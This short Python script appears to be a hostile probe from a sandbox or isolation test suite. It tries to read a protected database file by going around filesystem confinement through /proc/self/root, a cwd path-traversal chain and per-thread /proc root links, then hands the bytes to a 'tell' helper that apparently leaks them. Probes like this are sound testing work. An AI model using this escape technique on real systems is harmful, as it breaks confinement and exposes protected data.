"""Read the database by the folders of its own entry in /proc."""

import os
from contextlib import suppress
from pathlib import Path

from hostile import targets, tell

for way in ("root", "cwd/../../../../../../..", f"task/{os.getpid()}/root"):
    with suppress(OSError):
        tell(Path(f"/proc/self/{way}{targets['database']}").read_bytes())
